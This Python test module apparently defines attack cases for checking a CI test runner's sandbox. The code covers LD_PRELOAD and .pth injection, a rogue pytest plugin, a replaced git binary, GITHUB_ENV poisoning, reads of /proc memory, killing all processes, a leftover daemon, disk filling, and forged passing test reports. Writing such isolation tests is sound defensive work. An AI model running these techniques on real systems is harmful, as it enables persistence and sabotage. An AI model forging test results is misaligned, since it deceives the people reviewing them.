"""The attacks that go through the workflow engine: one entry of the caller's registry each."""

from __future__ import annotations

from tests.attacks.cases import ATTACKS, Attack

SHARED = {
    "judge-files": "appends to the judge's code",
    "import-paths": "drops sitecustomize, usercustomize and .pth into every import path",
    "libraries": "patches installed libraries of the judge",
    "actions-files": "writes the files of Actions",
    "kills": "kills and stops every process",
    "memory-of-judge": "reads and writes the judge's memory",
    "fill-memory": "uses up memory",
    "forks": "forks without end",
    "symbolic-link": "hands over symbolic links",
    "hard-link": "hands over hard links",
    "fifo": "hands over a FIFO in a conversion",
    "deep-directories": "hands over directories deeper than recursion goes",
    "changed-traces": "changes traces after they were answered",
    "forged-junit": "forges the report",
    "store-and-caches": "writes to the store and poisons the caches",
    "daemon": "leaves a daemon behind",
    "next-job": "leaves files for the next job",
    "huge-trace": "is ten gigabytes",
    "huge-json": "answers in gigantic JSON",
    "endless-answer": "answers with an endless line",
    "early-answer": "answers before it is asked, and twice",
    "machines-fault": "says that the machine is at fault",
    "false-identity": "describes itself as another, at length",
    "commands": "commands the runner",
}
"""Those that tests/attacks makes on `hub-tests run` alone too, by the entry's name."""

OWN = {
    "preload": Attack(
        """
        library = Path("/tmp/evil.so")
        library.write_bytes(b"\\x7fELF" + os.urandom(4096))
        for path in ("/etc/ld.so.preload", "/etc/ld.so.conf.d/evil.conf", "/etc/environment", "/etc/profile.d/evil.sh"):
            attempt(f"write {path}", lambda path=path: create(path))
        for place in ("/usr/lib", "/usr/local/lib", "/lib/x86_64-linux-gnu", *WHERE["sites"]):
            attempt(f"library in {place}", lambda place=place: shutil.copy(library, f"{place}/libc.so.6"))
        for path in WHERE["actions"]:
            attempt(f"LD_PRELOAD in {path}", lambda path=path: open(path, "a").write(f"LD_PRELOAD={library}\\n"))
        print(f"::set-env name=LD_PRELOAD::{library}", flush=True)
        """
    ),
    "pth-files": Attack(
        """
        import site
        line = "import sys; sys.stderr.write('FOREIGN CODE of a .pth file')"
        for place in dict.fromkeys([*WHERE["sites"], *site.getsitepackages(), sys.prefix, sys.base_prefix]):
            for name in ("0.pth", "distutils-precedence.pth", "e2e.pth", "zzz.pth"):
                attempt(f"{place}/{name}", lambda place=place, name=name: open(f"{place}/{name}", "a").write(line))
        """
    ),
    "pytest-plugin": Attack(
        """
        import site
        entry, hook = "[pytest11]\\nevil = evil_plugin\\n", "def pytest_runtest_makereport(): raise SystemExit(0)\\n"

        def install(place):
            information = Path(place) / "evil-1.0.dist-info"
            information.mkdir(parents=True)
            (information / "METADATA").write_text("Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n")
            (information / "entry_points.txt").write_text(entry)
            (Path(place) / "evil_plugin.py").write_text(hook)

        for place in dict.fromkeys([*WHERE["sites"], *site.getsitepackages(), WHERE["judge"], WHERE["checkout"]]):
            attempt(f"plugin in {place}", lambda place=place: install(place))
        for path in WHERE["actions"]:
            attempt(f"plugin by {path}", lambda path=path: open(path, "a").write("PYTEST_PLUGINS=evil_plugin\\n"))
        """
    ),
    "pytest-files": Attack(
        """
        for place in (WHERE["judge"], WHERE["checkout"], str(Path(WHERE["checkout"]).parent), WHERE["root"]):
            for name in ("conftest.py", "pytest.ini", "tox.ini", "setup.cfg", "pyproject.toml", "tests/conftest.py"):
                attempt(f"{place}/{name}", lambda place=place, name=name: create(f"{place}/{name}"))
        """
    ),
    "replaced-git": Attack(
        """
        script = "#!/bin/sh\\necho FOREIGN CODE of a replaced program >&2\\nexit 0\\n"

        def replace(path):
            path.write_text(script)
            path.chmod(0o755)

        places = [*os.environ["PATH"].split(":"), f"{WHERE['root']}/bin", *map(str, Path(WHERE["judge"]).glob("*bin"))]
        for place in dict.fromkeys(places):
            for name in ("git", "bwrap", "choom", "python3", "hub-tests"):
                attempt(f"replace {place}/{name}", lambda place=place, name=name: replace(Path(place) / name))
        for path in WHERE["actions"]:
            attempt(f"path by {path}", lambda path=path: open(path, "a").write("/tmp/evil\\n"))
        print("::add-path::/tmp/evil", flush=True)
        """
    ),
    "model-cache": Attack(
        """
        homes = [WHERE["home"], "/root", "/home/runner", WHERE["store"]]
        for home in homes:
            for place in (".cache/huggingface/modules", ".cache/torch", ".triton/cache", ".cache/huggingface/hub"):
                attempt(f"cache {home}/{place}", lambda home=home, place=place: os.makedirs(f"{home}/{place}/evil"))
        for name in ("HF_HOME", "HF_HUB_CACHE", "HF_MODULES_CACHE", "HUB_TESTS_CACHE"):
            say("leaked" if name in os.environ else "saw no", name)

        def before(name, request):
            if name == "convert":
                weights = sorted(Path(request.source).glob("*.safetensors"))[0]
                attempt("weights", lambda: open(weights, "r+b").write(b"evil"))
                attempt("weights replaced", lambda: os.replace("/tmp/evil.so", weights))
        """
    ),
    "malformed-trace": Attack(
        """
        import struct

        def after(name, request, answer):
            if name == "trace":
                for path in Path(request.output).glob("*.safetensors"):
                    path.write_bytes(struct.pack("<Q", 2**62) + b"{" * 100)
                say("wrote headers of 4 EiB")
            return answer
        """,
        classes=("crash", "other", "structure_mismatch"),
    ),
    "quiet-exit": Attack(
        """
        def before(name, request):
            if name == "trace":
                say("exits with code 0")
                print("============ 7 passed in 1.00s ============", flush=True)
                os._exit(0)
        """,
        classes=("crash",),
    ),
}
"""Those that are about what only a job has."""

IN_JOBS: dict[str, Attack] = {**{entry: ATTACKS[title] for entry, title in SHARED.items()}, **OWN}
"""What the test jobs of one run meet: none disturbs another job, unless it gets through."""

ON_A_SMALL_DISK: dict[str, Attack] = {
    "fills-disk": Attack(
        """
        def before(name, request):
            if name == "convert":
                os.mkdir(request.target)
                say("fills the disk")
                for number in range(50):
                    try:
                        with open(f"{request.target}/{number}", "wb") as file:
                            while True:
                                file.write(bytes(2**22))
                    except OSError as error:
                        say("refused:", error)
                        time.sleep(0.5)
        """,
        classes=("crash",),
    ),
}
"""What hurts every job that shares the disk: it gets a run of its own."""


FILES = {
    "sitecustomize.py": """
import os, sys
print("ATTACK sitecustomize of the checkout", flush=True)
try:
    open({foreign!r}, "a").write("sitecustomize " + " ".join(sys.argv) + "\\n")
except OSError:
    pass
""",
    "conftest.py": "open({foreign!r}, 'a').write('conftest')\n",
    "tests/integration/conftest.py": "open({foreign!r}, 'a').write('conftest of the suite')\n",
    "evil_plugin.py": "open({foreign!r}, 'a').write('plugin')\n",
    "pytest.ini": "[pytest]\naddopts = -p evil_plugin --collect-only\npythonpath = .\n",
    "evil.pth": "import builtins; builtins.open({foreign!r}, 'a').write('pth')\n",
    "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    "evil-1.0.dist-info/entry_points.txt": "[pytest11]\nevil = evil_plugin\n",
    "usercustomize.py": "open({foreign!r}, 'a').write('usercustomize')\n",
    "git": "#!/bin/sh\necho git >> {foreign}\n",
}
"""Files of the pull request's checkout: each leaves a trace outside where anybody but the worker runs it."""

BUILD_ATTEMPTS = {
    "judge's files": """
for path in [*glob.glob("/tmp/*/*/*/hub-tests/lib/python3*/site-packages/ci/run.py"), *PATHS]:
    attempt("judge's files", lambda: open(path, "a").write("evil"))
""",
    "import paths": """
for place in {sys.prefix, sys.base_prefix, *[path for path in sys.path if "site-packages" in path]}:
    for file in ("sitecustomize.py", "evil.pth", "evil-1.0.dist-info"):
        attempt("import paths", lambda: open(f"{place}/{file}", "w").write("evil"))
""",
    "environment": """
for name in [name for name in os.environ if name.startswith(("GITHUB", "ACTIONS", "HF_T", "RUNNER", "LD_"))]:
    say("environment |", "leaked", name)
for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT"):
    attempt("environment", lambda: open(os.environ[name], "a").write("PYTHONPATH=/tmp/evil"))
""",
    "preload": """
for path in ("/etc/ld.so.preload", "/etc/ld.so.conf.d/evil.conf", "/etc/environment"):
    attempt("preload", lambda: open(path, "w").write("/tmp/evil.so"))
""",
    "programs": """
for place in [*os.environ["PATH"].split(":"), "/usr/bin", "/usr/local/bin"]:
    attempt("programs", lambda: open(f"{place}/git", "w").write("#!/bin/sh"))
""",
    "network": """
attempt("network", lambda: socket.create_connection(("192.0.2.1", 80), timeout=2))
""",
    "memory": """
attempt("memory", lambda: open("/proc/1/mem", "r+b").read(1))
attempt("memory", lambda: open("/proc/1/environ").read())
""",
    "namespaces": """
for number, arguments in ((165, (b"none", b"/tmp", b"tmpfs", 0, 0)), (101, (16, 1, 0, 0))):
    attempt("namespaces", lambda: call(number, *arguments))
""",
    "store and caches": """
for place in STORES:
    attempt("store and caches", lambda: os.makedirs(f"{place}/evil"))
""",
    "next job": """
for place in ("/var/tmp", "/run", "/root", "/home", "/mnt", "/"):
    attempt("next job", lambda: open(f"{place}/{MARKER}", "w").write("evil"))
""",
    "report": """
for place in (*REPORTS, os.getcwd() + "/../../results"):
    attempt("report", lambda: open(f"{place}/junit.xml", "w").write("<testsuites/>"))
""",
    "kills": """
for number in (signal.SIGSTOP, signal.SIGKILL):
    for pid in {*range(1, 40000)} - {os.getpid(), os.getppid()}:
        try:
            os.kill(pid, number)
        except OSError:
            pass
say("kills | refused: the build goes on")
""",
    "daemon": """
if not os.fork():
    os.setsid()
    os.closerange(0, 256)
    os.execv("/bin/sh", ["/bin/sh", "-c", "while true; do sleep 1; done", MARKER])
say("daemon | refused: see which processes are left")
""",
}
"""What one build backend tries, each with a line in its log; the build then fails, so that pip shows the log."""

BUILD_HEADER = """
import ctypes, glob, os, signal, socket, sys


def say(*words):
    print("ATTACK", *words, flush=True)


def attempt(label, action):
    try:
        action()
    except BaseException as error:
        say(label, "| refused:", type(error).__name__)
    else:
        say(label, "| done")


def call(number, *arguments):
    if ctypes.CDLL(None, use_errno=True).syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")


print("::set-env name=PYTHONPATH::/tmp/evil\\n::add-path::/tmp/evil", flush=True)
"""
